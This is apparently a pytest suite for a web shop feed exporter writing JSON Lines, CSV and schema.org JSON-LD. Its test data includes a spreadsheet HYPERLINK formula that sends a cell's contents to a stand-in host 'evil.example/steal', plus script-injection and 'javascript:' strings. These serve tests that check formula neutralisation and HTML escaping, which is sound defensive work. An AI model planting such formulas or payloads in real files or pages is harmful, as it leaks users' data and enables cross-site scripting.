"""The web shop feed: JSON Lines, CSV and schema.org JSON-LD written in one pass."""

from __future__ import annotations

import csv
import io
import json
import logging
import tracemalloc
from collections.abc import Iterable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from exporters import get_format
from exporters.base import FeedSettings, Measure, Money, Param, Record, RecordGroup
from exporters.webshop import WebshopFeed
from tests.exporters.sinks import FolderSink, eur, rendered_as_in_a_run

GOLDEN = Path(__file__).parent / "golden" / "webshop"
# The fields the export profile maps, which the publisher passes on as the CSV's columns.
COLUMNS = "sku group name description brand price sale_price availability condition gtin ean color size fit gender material weight rating is_organic stock tags care params image url".split()
HYPERLINK = '=HYPERLINK("http://evil.example/steal?c="&A1,"Pflegehinweise")'

# The variant skeleton of the channel notes (section 1.2), with its made-up values.
SKELETON = {
    "@context": "https://schema.org",
    "@type": "ProductGroup",
    "productGroupID": "SHOE-ALTA",
    "name": "Alta leather sneaker",
    "brand": {"@type": "Brand", "name": "Northwind"},
    "variesBy": ["https://schema.org/size", "https://schema.org/color"],
    "hasVariant": [
        {
            "@type": "Product",
            "sku": "SHOE-ALTA-WHT-42",
            "gtin13": "4006381333931",
            "name": "Alta leather sneaker white 42",
            "size": "42",
            "color": "white",
            "image": "https://shop.example/img/alta-wht.jpg",
            "offers": {
                "@type": "Offer",
                "url": "https://shop.example/p/alta?v=wht-42",
                "price": "89.90",
                "priceCurrency": "EUR",
                "availability": "https://schema.org/InStock",
                "itemCondition": "https://schema.org/NewCondition",
            },
        }
    ],
}


def shoe(sku: str, color: str, size: str, gtin: str, **extra: Any) -> Record:
    fields = {
        "sku": sku,
        "name": f"Alta leather sneaker {color} {size}",
        "description": '<p>Low-top sneaker in full-grain leather &amp; rubber sole.</p>\n<p>Say "hello" to comfort, all day.</p>',
        "brand": "Northwind",
        "price": eur("119.90"),
        "availability": "in_stock",
        "gtin": gtin,
        "color": color,
        "size": size,
        "material": "Leather",
        "image": f"https://shop.example/img/alta-{color}.jpg",
        "url": f"https://shop.example/p/alta?v={color}-{size}",
        **extra,
    }
    return Record(sku, fields, group="SHOE_ALTA", group_number=1)


def shoes_model() -> RecordGroup:
    """Sneakers in two colours and two sizes, one on sale, one only on back order."""
    return RecordGroup(
        "SHOE_ALTA",
        {
            "name": "Alta leather sneaker",
            "description": "<p>Low-top sneaker in full-grain leather &amp; rubber sole.</p>",
            "brand": "Northwind",
            "url": "https://shop.example/p/alta",
            "image": ["https://shop.example/img/alta-white.jpg", "https://shop.example/img/alta-side.jpg"],
        },
        [
            shoe("ALTA-WHT-42", "white", "42", "4006381333931", sale_price=eur("89.90")),
            shoe("ALTA-WHT-43", "white", "43", "4006381333948", availability="backorder"),
            shoe("ALTA-BLK-42", "black", "42", "000123456784", price=eur("124.90"), availability="out_of_stock"),
        ],
        axes=("size", "color"),
    )


def shirt(sku: str, size: str, gtin: str, availability: str) -> Record:
    fields = {
        "sku": sku,
        "name": f"Bio-T-Shirt „Berlin“ für Damen, Größe {size}",
        "description": "Weiches T-Shirt aus 100 % Bio-Baumwolle; Größe fällt normal aus. Pflege: 30 °C & links waschen.",
        "brand": "Grünwald & Söhne",
        "price": eur("24.95"),
        "availability": availability,
        "condition": "new",
        "gtin": gtin,
        "size": size,
        "fit": "regular",
        "care": HYPERLINK,
        "params": [Param("Material", "Bio-Baumwolle"), Param("Grammatur", Decimal("180"), "g/m²")],
        "url": f"https://shop.example/de/p/berlin-shirt?size={size}",
    }
    return Record(sku, fields, group="TSHIRT_BERLIN", group_number=2)


def apparel_model() -> RecordGroup:
    """A women's T-shirt in German that varies by size and by a fit the schema.org axes do not know."""
    return RecordGroup(
        "TSHIRT_BERLIN",
        {"name": "Bio-T-Shirt „Berlin“ für Damen", "brand": "Grünwald & Söhne", "gender": "female", "care": HYPERLINK},
        [
            shirt("BERLIN-S", "S", "4012345678901", "in_stock"),
            shirt("BERLIN-M", "M", "4012345678918", "out_of_stock"),
            shirt("BERLIN-L", "L", "4012345678925", "preorder"),
        ],
        axes=("size", "fit"),
    )


def buckwheat() -> Record:
    """Buckwheat sold by weight, in Russian, with an in-store code before its global barcode."""
    return Record(
        "GRECHKA-900",
        {
            "sku": "GRECHKA-900",
            "name": "Гречка ядрица «Алтайская», 900 г",
            "description": 'Крупа гречневая ядрица, 1-й сорт.\x07 <b>Без ГМО</b> & "без глютена"</script><script>alert(1)</script>',
            "brand": "Алтайская сказка",
            "price": Money(Decimal("129.9"), "RUB"),
            "availability": "in_stock",
            "ean": ["2100042000001", "4601234567893"],
            "weight": Measure(Decimal("0.900"), "KILOGRAM"),
            "rating": Decimal("4.50"),
            "is_organic": False,
            "stock": 240,
            "tags": ["крупы", "без глютена"],
            "params": [Param("Страна производства", "Россия"), Param("Срок годности", 18, "MONTH")],
            "image": "https://shop.example/img/grechka-900.jpg",
            "url": "https://shop.example/ru/p/grechka-900",
        },
    )


def catalogue() -> list[Record | RecordGroup]:
    return [shoes_model(), apparel_model(), buckwheat()]


def write_feed(items: Iterable[Record | RecordGroup], folder: Path, **settings: Any) -> dict[str, bytes]:
    """Write a feed named webshop_de and return its files by extension."""
    sink = FolderSink(folder)
    try:
        WebshopFeed().write(iter(items), FeedSettings(code="webshop_de", **settings), sink)
    finally:
        sink.close()
    return {ext: (folder / f"webshop_de.{ext}").read_bytes() for ext in ("jsonl", "csv", "jsonld.jsonl")}


def assert_golden(request: pytest.FixtureRequest, name: str, data: bytes) -> None:
    path = GOLDEN / name
    if request.config.getoption("--update-golden"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    assert data == path.read_bytes()


def lines(data: bytes) -> list[dict[str, Any]]:
    assert data.endswith(b"\n")
    return [json.loads(line) for line in data.decode("utf-8").split("\n")[:-1]]


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- golden files --------------------------------------------------------------------------


def as_in_a_run(items: list[Record | RecordGroup], rendered: bool, **settings: Any) -> list[Record | RecordGroup]:
    """Return the items as given, or rendered as an export run renders them while resolving."""
    return rendered_as_in_a_run(WebshopFeed(), items, FeedSettings(code="webshop_de", **settings)) if rendered else items


@pytest.mark.parametrize("rendered", [False, True], ids=["as_given", "rendered"])
@pytest.mark.parametrize("ext", ["jsonl", "csv", "jsonld.jsonl"])
def test_catalogue_matches_golden_file(request: pytest.FixtureRequest, tmp_path: Path, ext: str, rendered: bool) -> None:
    settings: dict[str, Any] = {"options": {"csv_columns": COLUMNS}}
    files = write_feed(as_in_a_run(catalogue(), rendered, **settings), tmp_path, **settings)

    assert_golden(request, f"catalogue.{ext}", files[ext])


@pytest.mark.parametrize("rendered", [False, True], ids=["as_given", "rendered"])
def test_csv_for_people_matches_golden_file(request: pytest.FixtureRequest, tmp_path: Path, rendered: bool) -> None:
    settings: dict[str, Any] = {"is_for_people": True, "options": {"csv_columns": COLUMNS}}
    files = write_feed(as_in_a_run(catalogue(), rendered, **settings), tmp_path, **settings)

    assert_golden(request, "catalogue_for_people.csv", files["csv"])


@pytest.mark.parametrize("rendered", [False, True], ids=["as_given", "rendered"])
def test_delta_matches_golden_file(request: pytest.FixtureRequest, tmp_path: Path, rendered: bool) -> None:
    model = shoes_model()
    model.variants[1] = Record("ALTA-WHT-43", {}, group="SHOE_ALTA", group_number=1, is_deleted=True)
    items: list[Record | RecordGroup] = [model, Record("GRECHKA-450", {}, is_deleted=True), buckwheat()]
    settings: dict[str, Any] = {"is_delta": True, "options": {"csv_columns": COLUMNS}}

    files = write_feed(as_in_a_run(items, rendered, **settings), tmp_path, **settings)

    assert_golden(request, "delta.jsonl", files["jsonl"])


def test_records_are_rendered_only_when_the_csv_columns_are_configured() -> None:
    feed, settings = WebshopFeed(), FeedSettings(code="webshop_de")
    model = shoes_model()

    assert feed.render(buckwheat(), settings) is None
    assert feed.render_group(model, model.variants, settings) == (None, [None] * len(model.variants))
    assert feed.render(buckwheat(), FeedSettings(code="webshop_de", options={"csv_columns": COLUMNS})) is not None


@pytest.mark.parametrize("rendered", [False, True], ids=["as_given", "rendered"])
@pytest.mark.parametrize(("csv", "jsonld"), [(False, False), (False, True), (True, False)], ids=["jsonl-only", "no-csv", "no-jsonld"])
def test_files_left_out_are_not_written_and_the_others_stay_the_same(
    request: pytest.FixtureRequest, tmp_path: Path, csv: bool, jsonld: bool, rendered: bool
) -> None:
    settings: dict[str, Any] = {"options": {"csv": csv, "jsonld": jsonld, "csv_columns": COLUMNS}}
    sink = FolderSink(tmp_path)
    feed = WebshopFeed()
    try:
        feed.write(iter(as_in_a_run(catalogue(), rendered, **settings)), FeedSettings(code="webshop_de", **settings), sink)
    finally:
        sink.close()

    written = sorted(path.name for path in tmp_path.iterdir())
    assert written == sorted(feed.file_names(FeedSettings(code="webshop_de", **settings)))
    assert written == sorted(["webshop_de.jsonl", *(["webshop_de.csv"] if csv else []), *(["webshop_de.jsonld.jsonl"] if jsonld else [])])
    for name in written:
        assert_golden(request, name.replace("webshop_de", "catalogue"), (tmp_path / name).read_bytes())


def test_without_the_csv_records_are_rendered_with_no_columns_configured() -> None:
    feed, settings = WebshopFeed(), FeedSettings(code="webshop_de", options={"csv": False})
    model = shoes_model()

    line, row, ld = feed.render(buckwheat(), settings)
    group_part, parts = feed.render_group(model, model.variants, settings)

    assert json.loads(line)["sku"] == "GRECHKA-900" and row == "" and json.loads(ld)["@type"] == "Product"
    assert group_part is not None and len(parts) == len(model.variants)
    assert feed.render(buckwheat(), FeedSettings(code="webshop_de", options={"csv": False, "jsonld": False}))[2] == b""


# --- JSON Lines ----------------------------------------------------------------------------


def test_json_lines_hold_one_model_or_product_per_line(tmp_path: Path) -> None:
    documents = lines(write_feed(catalogue(), tmp_path)["jsonl"])

    assert [(document["type"], document.get("code") or document["sku"]) for document in documents] == [
        ("product_model", "SHOE_ALTA"),
        ("product_model", "TSHIRT_BERLIN"),
        ("product", "GRECHKA-900"),
    ]
    assert [variant["sku"] for variant in documents[0]["variants"]] == ["ALTA-WHT-42", "ALTA-WHT-43", "ALTA-BLK-42"]
    assert documents[0]["axes"] == ["size", "color"]


def test_json_lines_write_typed_values_as_exact_strings(tmp_path: Path) -> None:
    grocery = lines(write_feed(catalogue(), tmp_path)["jsonl"])[2]

    assert grocery["price"] == {"amount": "129.90", "currency": "RUB"}
    assert grocery["weight"] == {"amount": "0.9", "unit": "KILOGRAM"}
    assert grocery["rating"] == "4.50"
    assert grocery["is_organic"] is False
    assert grocery["stock"] == 240
    assert grocery["params"] == [
        {"name": "Страна производства", "value": "Россия", "unit": None},
        {"name": "Срок годности", "value": 18, "unit": "MONTH"},
    ]
    assert grocery["description"] == 'Крупа гречневая ядрица, 1-й сорт. <b>Без ГМО</b> & "без глютена"</script><script>alert(1)</script>'


def test_json_lines_take_the_record_key_when_no_sku_is_mapped(tmp_path: Path) -> None:
    record = Record("MUG-01", {"name": "Mug", "price": eur("9.00")})

    (document,) = lines(write_feed([record], tmp_path)["jsonl"])

    assert document == {"type": "product", "sku": "MUG-01", "name": "Mug", "price": {"amount": "9.00", "currency": "EUR"}}


def test_delta_writes_a_deleted_line_for_each_product_that_left(tmp_path: Path) -> None:
    model = shoes_model()
    model.variants[1] = Record("ALTA-WHT-43", {}, group="SHOE_ALTA", is_deleted=True)
    items: list[Record | RecordGroup] = [model, Record("GRECHKA-450", {}, is_deleted=True)]

    files = write_feed(items, tmp_path, is_delta=True)

    documents = lines(files["jsonl"])
    assert documents[1:] == [{"type": "deleted", "sku": "ALTA-WHT-43"}, {"type": "deleted", "sku": "GRECHKA-450"}]
    assert [variant["sku"] for variant in documents[0]["variants"]] == ["ALTA-WHT-42", "ALTA-BLK-42"]
    assert [row["sku"] for row in csv_rows(files["csv"])] == ["ALTA-WHT-42", "ALTA-BLK-42"]
    assert [variant["sku"] for variant in lines(files["jsonld.jsonl"])[0]["hasVariant"]] == ["ALTA-WHT-42", "ALTA-BLK-42"]


def test_a_model_whose_variants_all_left_writes_only_deleted_lines(tmp_path: Path) -> None:
    model = RecordGroup("SHOE_OLD", {"name": "Old sneaker"}, [Record("OLD-42", {}, group="SHOE_OLD", is_deleted=True)], axes=("size",))

    files = write_feed([model], tmp_path, is_delta=True)

    assert lines(files["jsonl"]) == [{"type": "deleted", "sku": "OLD-42"}]
    assert files["jsonld.jsonl"] == b""
    assert csv_rows(files["csv"]) == []


def test_a_variant_sent_without_its_model_still_names_it(tmp_path: Path) -> None:
    variant = shoes_model().variants[0]

    files = write_feed([variant], tmp_path)

    assert csv_rows(files["csv"])[0]["group"] == "SHOE_ALTA"
    assert lines(files["jsonld.jsonl"])[0]["inProductGroupWithID"] == "SHOE_ALTA"


# --- CSV -----------------------------------------------------------------------------------


def test_csv_flattens_variants_with_their_model_code(tmp_path: Path) -> None:
    rows = csv_rows(write_feed(catalogue(), tmp_path, options={"csv_columns": COLUMNS})["csv"])

    assert [(row["sku"], row["group"]) for row in rows] == [
        ("ALTA-WHT-42", "SHOE_ALTA"),
        ("ALTA-WHT-43", "SHOE_ALTA"),
        ("ALTA-BLK-42", "SHOE_ALTA"),
        ("BERLIN-S", "TSHIRT_BERLIN"),
        ("BERLIN-M", "TSHIRT_BERLIN"),
        ("BERLIN-L", "TSHIRT_BERLIN"),
        ("GRECHKA-900", ""),
    ]
    assert rows[0]["price"] == "119.90 EUR"
    assert rows[0]["sale_price"] == "89.90 EUR"
    assert rows[-1]["tags"] == "крупы|без глютена"
    assert rows[-1]["params"] == "Страна производства: Россия|Срок годности: 18 MONTH"
    assert rows[0]["description"].endswith('<p>Say "hello" to comfort, all day.</p>')


def test_machine_csv_keeps_formula_looking_text_exact(tmp_path: Path) -> None:
    rows = csv_rows(write_feed(catalogue(), tmp_path, options={"csv_columns": COLUMNS})["csv"])

    assert rows[3]["care"] == HYPERLINK


def test_csv_for_people_neutralises_formulas(tmp_path: Path) -> None:
    rows = csv_rows(write_feed(catalogue(), tmp_path, is_for_people=True, options={"csv_columns": COLUMNS})["csv"])

    assert rows[3]["care"] == "'" + HYPERLINK
    assert rows[3]["name"] == "Bio-T-Shirt „Berlin“ für Damen, Größe S"


def test_csv_for_people_leaves_numbers_as_numbers(tmp_path: Path) -> None:
    record = Record("GIFT-CARD", {"name": "-10 % voucher", "price": eur("0.00"), "balance_change": Decimal("-10"), "count": -1})

    (row,) = csv_rows(write_feed([record], tmp_path, is_for_people=True)["csv"])

    assert (row["name"], row["balance_change"], row["count"]) == ("'-10 % voucher", "-10", "-1")


def test_csv_starts_with_a_bom_only_for_excel(tmp_path: Path) -> None:
    plain = write_feed(catalogue(), tmp_path)["csv"]
    excel = write_feed(catalogue(), tmp_path, options={"excel": True})["csv"]

    assert plain.startswith(b"sku,group,")
    assert excel == b"\xef\xbb\xbf" + plain


def test_csv_columns_come_from_the_options_when_given(tmp_path: Path) -> None:
    files = write_feed(catalogue(), tmp_path, options={"csv_columns": ["sku", "name", "price", "weight", "group"]})

    header, *rows = csv.reader(io.StringIO(files["csv"].decode(), newline=""))
    assert header == ["sku", "name", "price", "weight", "group"]
    assert rows[-1] == ["GRECHKA-900", "Гречка ядрица «Алтайская», 900 г", "129.90 RUB", "0.9 KILOGRAM", ""]


def test_csv_columns_follow_the_first_item_and_name_the_fields_left_out(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.WARNING, logger="exporters.webshop"):
        files = write_feed([buckwheat(), shoes_model()], tmp_path)

    header = files["csv"].split(b"\r\n", 1)[0].decode()
    assert header == "sku,group,name,description,brand,price,availability,ean,weight,rating,is_organic,stock,tags,params,image,url"
    assert "gtin, material, sale_price, size" in caplog.text


def test_csv_of_an_empty_feed_has_a_header(tmp_path: Path) -> None:
    files = write_feed([], tmp_path)

    assert files == {"jsonl": b"", "csv": b"sku,group\r\n", "jsonld.jsonl": b""}


# --- schema.org JSON-LD --------------------------------------------------------------------


def shape(value: Any) -> Any:
    """Return the keys and JSON types of a document, without its values."""
    if isinstance(value, dict):
        return {key: shape(item) for key, item in value.items()}
    if isinstance(value, list):
        return [shape(value[0])] if value else []
    return type(value).__name__


def contains_shape(actual: Any, expected: Any) -> bool:
    if isinstance(expected, dict):
        return isinstance(actual, dict) and all(key in actual and contains_shape(actual[key], item) for key, item in expected.items())
    if isinstance(expected, list):
        return isinstance(actual, list) and all(contains_shape(item, expected[0]) for item in actual)
    return actual == expected


def test_product_group_has_the_shape_of_the_schema_org_skeleton(tmp_path: Path) -> None:
    group = lines(write_feed(catalogue(), tmp_path)["jsonld.jsonl"])[0]

    assert contains_shape(shape(group), shape(SKELETON))
    assert group["productGroupID"] == "SHOE_ALTA"
    assert group["variesBy"] == ["https://schema.org/size", "https://schema.org/color"]
    assert {variant["inProductGroupWithID"] for variant in group["hasVariant"]} == {"SHOE_ALTA"}


def test_product_group_skips_axes_schema_org_does_not_know(tmp_path: Path) -> None:
    group = lines(write_feed(catalogue(), tmp_path)["jsonld.jsonl"])[1]

    assert group["variesBy"] == ["https://schema.org/size"]


def test_axes_map_to_schema_org_properties(tmp_path: Path) -> None:
    model = RecordGroup("KIDS_RAIN", {"name": "Rain jacket"}, [shoe("RAIN-1", "yellow", "110", "4006381333955")], axes=("gender", "age", "material", "pattern"))

    (group,) = lines(write_feed([model], tmp_path)["jsonld.jsonl"])

    assert group["variesBy"] == [
        "https://schema.org/suggestedGender",
        "https://schema.org/suggestedAge",
        "https://schema.org/material",
        "https://schema.org/pattern",
    ]


def test_offer_shows_the_sale_price_instead_of_the_regular_one(tmp_path: Path) -> None:
    variants = lines(write_feed(catalogue(), tmp_path)["jsonld.jsonl"])[0]["hasVariant"]

    assert (variants[0]["offers"]["price"], variants[0]["offers"]["priceCurrency"]) == ("89.90", "EUR")
    assert variants[1]["offers"]["price"] == "119.90"
    assert "119.90" not in json.dumps(variants[0])


def test_offer_availability_and_condition_become_schema_org_urls(tmp_path: Path) -> None:
    documents = lines(write_feed(catalogue(), tmp_path)["jsonld.jsonl"])
    offers = [variant["offers"] for document in documents[:2] for variant in document["hasVariant"]]

    assert [offer["availability"].removeprefix("https://schema.org/") for offer in offers] == [
        "InStock",
        "BackOrder",
        "OutOfStock",
        "InStock",
        "OutOfStock",
        "PreOrder",
    ]
    assert {offer["itemCondition"] for offer in offers} == {"https://schema.org/NewCondition"}


def test_offer_defaults_to_in_stock_and_new_but_never_guesses_an_unknown_value(tmp_path: Path) -> None:
    plain = Record("MUG-01", {"name": "Mug", "price": eur("9.00")})
    odd = Record("MUG-02", {"name": "Mug", "price": eur("9.00"), "availability": "ask_us", "condition": "like new"})

    first, second = lines(write_feed([plain, odd], tmp_path)["jsonld.jsonl"])

    assert first["offers"] == {
        "@type": "Offer",
        "price": "9.00",
        "priceCurrency": "EUR",
        "availability": "https://schema.org/InStock",
        "itemCondition": "https://schema.org/NewCondition",
    }
    assert second["offers"] == {"@type": "Offer", "price": "9.00", "priceCurrency": "EUR"}


def test_gtin_property_follows_the_length_of_the_barcode(tmp_path: Path) -> None:
    documents = lines(write_feed(catalogue(), tmp_path)["jsonld.jsonl"])
    variants = documents[0]["hasVariant"]

    assert variants[0]["gtin13"] == "4006381333931"
    assert variants[2]["gtin12"] == "000123456784"
    eight = Record("PEN-1", {"name": "Pen", "price": eur("1.20"), "gtin": "96385074"})
    fourteen = Record("CASE-1", {"name": "Case of pens", "price": eur("12.00"), "ean": "14006381333938"})
    assert {key for document in lines(write_feed([eight, fourteen], tmp_path)["jsonld.jsonl"]) for key in document if key.startswith("gtin")} == {
        "gtin8",
        "gtin14",
    }


def test_in_store_and_wrong_barcodes_never_reach_the_page(tmp_path: Path) -> None:
    grocery = lines(write_feed(catalogue(), tmp_path)["jsonld.jsonl"])[2]
    wrong = Record("MUG-01", {"name": "Mug", "price": eur("9.00"), "gtin": "4006381333932"})

    (document,) = lines(write_feed([wrong], tmp_path)["jsonld.jsonl"])

    assert grocery["gtin13"] == "4601234567893"
    assert not any(key.startswith("gtin") for key in document)


def test_single_product_is_a_schema_org_product(tmp_path: Path) -> None:
    grocery = lines(write_feed(catalogue(), tmp_path)["jsonld.jsonl"])[2]

    assert grocery["@context"] == "https://schema.org"
    assert grocery["@type"] == "Product"
    assert grocery["brand"] == {"@type": "Brand", "name": "Алтайская сказка"}
    assert grocery["offers"]["url"] == grocery["url"] == "https://shop.example/ru/p/grechka-900"
    assert "inProductGroupWithID" not in grocery


def test_json_ld_cannot_close_the_script_element_of_the_page(tmp_path: Path) -> None:
    data = write_feed(catalogue(), tmp_path)["jsonld.jsonl"]

    assert b"<" not in data and b">" not in data and b"&" not in data
    assert lines(data)[2]["description"].endswith("</script><script>alert(1)</script>")


# --- whatever the text ---------------------------------------------------------------------

HOSTILE = [
    "a\x00b\x01c\x0bd\x1fe\x7f",
    "lone \ud800 surrogate and \udfff",
    "not a character: \ufffe\uffff",
    'quote " and comma , and newline\nand CR\r\nend',
    "tab\tseparated",
    "</script><!-- & ]]> '",
    "+49 30 1234567",
    "@brand",
    "-5",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_output_stays_well_formed_whatever_the_text(tmp_path: Path, text: str) -> None:
    record = Record(text, {"sku": text, "name": text, "price": eur("1.00"), "brand": text, "tags": [text, text], "params": [Param(text, text, text)]})
    model = RecordGroup(text, {"name": text, text: text}, [Record("V1", {"name": text, "price": eur("1.00"), "color": text}, group=text)], axes=("color",))

    for is_for_people in (False, True):
        files = write_feed([record, model], tmp_path, is_for_people=is_for_people)

        assert len(lines(files["jsonl"])) == 2
        assert len(lines(files["jsonld.jsonl"])) == 2
        assert len(csv_rows(files["csv"])) == 2
        assert not any(ord(char) < 32 and char not in "\t\n\r" for char in files["csv"].decode("utf-8"))


# --- rules ---------------------------------------------------------------------------------


def good_record() -> Record:
    return Record(
        "MUG-01", {"sku": "MUG-01", "name": "Mug", "price": eur("9.00"), "url": "https://shop.example/p/mug", "image": "https://shop.example/img/mug.jpg"}
    )


def problems_of(record: Record) -> list[tuple[str, str]]:
    return [(problem.field, problem.code) for problem in WebshopFeed().check(record)]


def test_a_good_record_has_no_problems() -> None:
    assert problems_of(good_record()) == []


def test_every_product_of_the_catalogue_passes() -> None:
    feed = WebshopFeed()
    records = [variant for model in (shoes_model(), apparel_model()) for variant in model.variants] + [buckwheat()]

    assert [feed.check(record) for record in records] == [[]] * len(records)


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        ({"name": ""}, ("name", "required")),
        ({"name": None}, ("name", "required")),
        ({"price": None}, ("price", "required")),
        ({"price": "9.00"}, ("price", "invalid")),
        ({"price": eur("-1.00")}, ("price", "invalid")),
        ({"sale_price": Decimal("7.50")}, ("sale_price", "invalid")),
        ({"url": "/p/mug"}, ("url", "invalid_url")),
        ({"url": "javascript:alert(1)"}, ("url", "invalid_url")),
        ({"image": "mug.jpg"}, ("image", "invalid_url")),
        ({"image": ["https://shop.example/img/mug.jpg", "ftp://shop.example/mug.jpg"]}, ("image", "invalid_url")),
        ({"type": "mug"}, ("type", "reserved")),
        ({"variants": []}, ("variants", "reserved")),
        ({"launch": object()}, ("launch", "invalid")),
        ({"sizes": [1, {2}]}, ("sizes", "invalid")),
    ],
)
def test_a_record_breaking_a_rule_gets_its_problem(change: dict[str, Any], expected: tuple[str, str]) -> None:
    record = good_record()
    record.fields.update(change)

    assert problems_of(record) == [expected]


def test_image_may_be_a_list_of_addresses() -> None:
    record = good_record()
    record.fields["image"] = [f"https://shop.example/img/mug-{number}.jpg" for number in range(40)]

    assert problems_of(record) == []


def test_sku_defaults_to_the_key_and_is_required_without_one() -> None:
    assert problems_of(Record("MUG-01", {"name": "Mug", "price": eur("9.00")})) == []
    assert problems_of(Record("", {"name": "Mug", "price": eur("9.00")})) == [("sku", "required")]


# --- the format ----------------------------------------------------------------------------


def test_format_is_registered_as_a_grouped_delta_feed() -> None:
    feed = get_format("webshop")

    assert isinstance(feed, WebshopFeed)
    assert (feed.media_type, feed.extension, feed.is_grouped, feed.supports_delta) == ("application/x-ndjson", "jsonl", True, True)
    assert feed.file_names(FeedSettings(code="webshop_de")) == ["webshop_de.jsonl", "webshop_de.csv", "webshop_de.jsonld.jsonl"]


def test_prices_use_the_minor_unit_of_their_currency(tmp_path: Path) -> None:
    yen = Record("TEA-JP", {"name": "Sencha", "price": Money(Decimal("1480"), "JPY")})
    dinar = Record("TEA-KW", {"name": "Sencha", "price": Money(Decimal("3.5"), "KWD")})

    first, second = lines(write_feed([yen, dinar], tmp_path)["jsonl"])

    assert (first["price"]["amount"], second["price"]["amount"]) == ("1480", "3.500")


def many_records(count: int) -> Iterator[Record | RecordGroup]:
    """Yield `count` records: models of four sizes, then as many single products."""
    for number in range(count // 8):
        model = f"SHOE_{number:05d}"
        variants = [
            Record(
                f"SHOE-{number:05d}-{size}",
                {"name": f"Sneaker {number} white {size}", "price": eur("89.90"), "size": str(size), "url": f"https://shop.example/p/{model}?size={size}"},
                group=model,
            )
            for size in (40, 41, 42, 43)
        ]
        yield RecordGroup(model, {"name": f"Sneaker {number}", "brand": "Northwind"}, variants, axes=("size",))
    for number in range(count // 2):
        weight = Measure(Decimal(number % 900 + 100), "GRAM")
        yield Record(f"GRECHKA-{number:05d}", {"name": f"Гречка ядрица, {weight.amount} г", "price": Money(Decimal("129.90"), "RUB"), "weight": weight})


def test_writing_20000_records_keeps_memory_flat(tmp_path: Path) -> None:
    sink = FolderSink(tmp_path)
    tracemalloc.start()
    try:
        WebshopFeed().write(many_records(20_000), FeedSettings(code="webshop_de"), sink)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        sink.close()

    assert len(lines((tmp_path / "webshop_de.jsonl").read_bytes())) == 2_500 + 10_000
    assert len(csv_rows((tmp_path / "webshop_de.csv").read_bytes())) == 20_000
    assert peak < 1_000_000
